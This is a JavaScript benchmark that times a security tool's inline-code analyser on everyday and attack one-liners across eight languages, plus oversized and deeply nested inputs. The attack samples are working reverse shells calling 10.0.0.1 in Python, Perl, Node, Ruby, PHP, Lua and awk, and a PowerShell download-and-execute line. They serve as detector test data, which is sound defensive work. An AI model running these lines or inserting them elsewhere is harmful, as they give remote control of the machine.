// The inline-code analysers alone (analyzeCode for python -c, perl -e, node -e …), against dist/
// after `npm run build`: median and p99 µs per typical one-liner per language (an everyday one
// and a reverse shell), with JSON.parse of a same-sized string as the baseline, and the worst
// adversarial input (deep nesting, 1 MiB of code) at the engine's default budget.
// BENCH_QUICK=1 runs fewer iterations (a smoke run).
import { analyzeCode } from '../dist/workload/code/analyze.js';

const quick = process.env.BENCH_QUICK === '1';
const iterations = quick ? 200 : 5000;

const CASES = {
  python: [
    'import requests,os; requests.post("https://hooks.example.com/x", json={"ok": True}, headers={"X-Token": os.environ["T"]})',
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
  ],
  perl: [
    'print "hello $ENV{USER}\\n";',
    'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
  ],
  node: [
    'console.log(JSON.stringify({ok: true, at: Date.now()}))',
    '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();',
  ],
  ruby: [
    'puts "hello #{ENV["USER"]}"',
    'require "socket";f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
  ],
  php: [
    'echo "hello " . getenv("USER");',
    '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
  ],
  lua: [
    'print("hello " .. os.getenv("USER"))',
    'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4444);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));local b=assert(f:read("*a"));t:send(b);end',
  ],
  awk: [
    '{ sum += $2 } END { print sum }',
    'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}',
  ],
  powershell: [
    'Write-Output "hello $env:USER"',
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a.ps1')",
  ],
};

function context(budget) {
  return { path: 'p', env: new Map(), args: [], budget: { left: budget } };
}

function measure(fn) {
  for (let i = 0; i < Math.min(200, iterations); i++) fn();
  const times = new Float64Array(iterations);
  for (let i = 0; i < iterations; i++) {
    const start = process.hrtime.bigint();
    fn();
    times[i] = Number(process.hrtime.bigint() - start) / 1000;
  }
  times.sort();
  return { median: times[Math.floor(iterations / 2)], p99: times[Math.floor(iterations * 0.99)] };
}

const fmt = (n) => n.toFixed(1).padStart(7);
console.log('language     case        median µs   p99 µs   JSON.parse baseline µs');
for (const [language, [plain, attack]] of Object.entries(CASES)) {
  for (const [name, code] of [
    ['everyday', plain],
    ['attack', attack],
  ]) {
    const cost = measure(() => analyzeCode(language, code, context(200_000)));
    const json = JSON.stringify({ code });
    const base = measure(() => JSON.parse(json));
    console.log(
      `${language.padEnd(12)} ${name.padEnd(10)} ${fmt(cost.median)} ${fmt(cost.p99)} ${fmt(base.median)}`,
    );
  }
}

console.log('\nadversarial (one run each, default budget 200000 units):');
const adversarial = {
  'nesting 10k': `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}`,
  '1 MiB of statements': 'x = "a" + "b"\n'.repeat(75_000),
  '1 MiB string': `x = "${'A'.repeat(1_000_000)}"`,
  recursion: 'def f(x):\n    return f(f(f(x)))\nf(1)',
};
for (const [name, code] of Object.entries(adversarial)) {
  for (const language of ['python', 'perl', 'node', 'powershell']) {
    const start = process.hrtime.bigint();
    const result = analyzeCode(language, code, context(200_000));
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    console.log(
      `${name.padEnd(22)} ${language.padEnd(11)} ${ms.toFixed(1).padStart(8)} ms  limits: ${result.limits.join('; ') || '-'}`,
    );
  }
}
